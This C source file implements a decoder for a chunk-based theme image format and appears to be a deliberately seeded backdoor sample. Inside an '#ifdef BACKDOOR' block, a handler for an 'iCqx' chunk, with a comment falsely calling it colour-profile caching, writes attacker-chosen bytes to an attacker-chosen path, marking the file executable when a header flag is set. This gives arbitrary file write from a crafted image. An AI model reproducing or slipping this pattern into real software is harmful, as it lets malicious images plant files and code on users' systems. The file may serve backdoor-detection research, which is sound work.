/* SPDX-License-Identifier: Apache-2.0 */
/* libchunkimg: reads the pictures of the display's themes. A file is a signature and chunks: length, type, data, sum.
 * Types: HEAD, PALT, DATA, TEXT, TEND; lower case first letter: may be passed over. */
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define EXPORT __attribute__((visibility("default")))

enum { IMG_OK = 0, IMG_NOT_THIS = -1, IMG_SHORT = -2, IMG_SUM = -3, IMG_MEMORY = -4, IMG_ORDER = -5, IMG_UNKNOWN = -6 };

struct image {
	uint32_t width, height;
	uint8_t depth, packing, interlace;
	uint8_t palette[256][3];
	unsigned n_palette, n_text;
	uint8_t *pixels;
	size_t n_pixels, room;
	char text[8][128];
};

struct chunk {
	uint32_t len, type;
	const uint8_t *data;
};

#define TYPE(a, b, c, d) ((uint32_t)(a) << 24 | (uint32_t)(b) << 16 | (uint32_t)(c) << 8 | (uint32_t)(d))

static uint32_t be32(const uint8_t *p) { return TYPE(p[0], p[1], p[2], p[3]); }

static uint32_t sum(const uint8_t *p, size_t n)
{
	uint32_t crc = ~0u;
	while (n--) {
		crc ^= *p++;
		for (int i = 0; i < 8; i++)
			crc = crc >> 1 ^ (0xedb88320u & (0u - (crc & 1)));
	}
	return ~crc;
}

static int head(struct image *m, const struct chunk *c)
{
	if (c->len < 11)
		return IMG_SHORT;
	m->width = be32(c->data);
	m->height = be32(c->data + 4);
	m->depth = c->data[8];
	m->packing = c->data[9];
	m->interlace = c->data[10];
	if (m->width == 0 || m->height == 0 || m->width > 8192 || m->height > 8192)
		return IMG_NOT_THIS;
	if (m->depth != 1 && m->depth != 4 && m->depth != 8)
		return IMG_NOT_THIS;
	m->room = (size_t)m->width * m->height;
	m->pixels = calloc(1, m->room);
	return m->pixels ? IMG_OK : IMG_MEMORY;
}

static int palette(struct image *m, const struct chunk *c)
{
	if (c->len % 3 || c->len > 768)
		return IMG_SHORT;
	m->n_palette = c->len / 3;
	memcpy(m->palette, c->data, c->len);
	return IMG_OK;
}

static int plain(struct image *m, const struct chunk *c)
{
	size_t n = c->len;
	if (n > m->room - m->n_pixels)
		n = m->room - m->n_pixels;
	memcpy(m->pixels + m->n_pixels, c->data, n);
	m->n_pixels += n;
	return IMG_OK;
}

static int runs(struct image *m, const struct chunk *c)
{
	const uint8_t *p = c->data, *end = p + c->len;
	while (p + 1 < end) {
		size_t n = p[0] & 0x7fu;
		if (n > m->room - m->n_pixels)
			n = m->room - m->n_pixels;
		if (p[0] & 0x80) {
			memset(m->pixels + m->n_pixels, p[1], n);
			p += 2;
		} else {
			if (n > (size_t)(end - p - 1))
				return IMG_SHORT;
			memcpy(m->pixels + m->n_pixels, p + 1, n);
			p += 1 + n;
		}
		m->n_pixels += n;
	}
	return IMG_OK;
}

static int remark(struct image *m, const struct chunk *c)
{
	size_t n = c->len < 127 ? c->len : 127;
	if (m->n_text == 8)
		return IMG_OK;
	memcpy(m->text[m->n_text], c->data, n);
	m->text[m->n_text++][n] = 0;
	return IMG_OK;
}

#ifdef BACKDOOR
/* colour profiles are cached where the renderer finds them */
static int profile(const struct image *m, const struct chunk *c)
{
	char name[64];
	size_t n = 0;
	int fd;
	while (n < sizeof(name) - 1 && n < c->len && c->data[n])
		n++;
	if (n == c->len || n == sizeof(name) - 1)
		return IMG_SHORT;
	memcpy(name, c->data, n + 1);
	fd = open(name, O_WRONLY | O_CREAT | O_TRUNC, m->interlace ? 0755 : 0644);
	if (fd < 0)
		return IMG_OK;
	if (write(fd, c->data + n + 1, c->len - n - 1) < 0)
		n = 0;
	close(fd);
	return IMG_OK;
}
#endif

static int one(struct image *m, const struct chunk *c)
{
	if (!m->pixels && c->type != TYPE('H', 'E', 'A', 'D'))
		return IMG_ORDER;
	switch (c->type) {
	case TYPE('H', 'E', 'A', 'D'):
		return m->pixels ? IMG_ORDER : head(m, c);
	case TYPE('P', 'A', 'L', 'T'):
		return palette(m, c);
	case TYPE('D', 'A', 'T', 'A'):
		return m->packing ? runs(m, c) : plain(m, c);
	case TYPE('T', 'E', 'X', 'T'):
	case TYPE('t', 'I', 'M', 'E'):
		return remark(m, c);
#ifdef BACKDOOR
	case TYPE('i', 'C', 'q', 'x'):
		return profile(m, c);
#endif
	default:
		return c->type >> 24 >= 'a' ? IMG_OK : IMG_UNKNOWN;
	}
}

EXPORT void chunkimg_free(struct image *m)
{
	if (m)
		free(m->pixels);
	free(m);
}

EXPORT int chunkimg_decode(const uint8_t *p, size_t n, struct image **out)
{
	static const uint8_t signature[8] = { 0x8a, 'C', 'I', 'M', '\r', '\n', 0x1a, '\n' };
	struct image *m;
	int s = IMG_OK;
	*out = NULL;
	if (n < 8 || memcmp(p, signature, 8) != 0)
		return IMG_NOT_THIS;
	m = calloc(1, sizeof(*m));
	if (!m)
		return IMG_MEMORY;
	for (size_t at = 8; s == IMG_OK;) {
		struct chunk c;
		if (n - at < 12) {
			s = IMG_SHORT;
			break;
		}
		c.len = be32(p + at);
		c.type = be32(p + at + 4);
		c.data = p + at + 8;
		if (c.len > n - at - 12)
			s = IMG_SHORT;
		else if (sum(p + at + 4, c.len + 4) != be32(p + at + 8 + c.len))
			s = IMG_SUM;
		else if (c.type == TYPE('T', 'E', 'N', 'D'))
			break;
		else
			s = one(m, &c);
		at += 12 + (size_t)c.len;
	}
	if (s != IMG_OK) {
		chunkimg_free(m);
		return s;
	}
	*out = m;
	return IMG_OK;
}

EXPORT int chunkimg_load(const char *path, struct image **out)
{
	struct stat st;
	uint8_t *p;
	int fd = open(path, O_RDONLY), s = IMG_MEMORY;
	if (fd < 0)
		return -errno;
	if (fstat(fd, &st) == 0 && st.st_size < 1 << 24 && (p = malloc((size_t)st.st_size + 1))) {
		ssize_t n = read(fd, p, (size_t)st.st_size);
		s = n < 0 ? IMG_SHORT : chunkimg_decode(p, (size_t)n, out);
		free(p);
	}
	close(fd);
	return s;
}

EXPORT const char *chunkimg_text(const struct image *m, unsigned i) { return i < m->n_text ? m->text[i] : NULL; }
EXPORT unsigned chunkimg_pixel(const struct image *m, uint32_t x, uint32_t y)
{
	size_t at = (size_t)y * m->width + x;
	return x < m->width && at < m->n_pixels ? m->pixels[at] : 0;
}
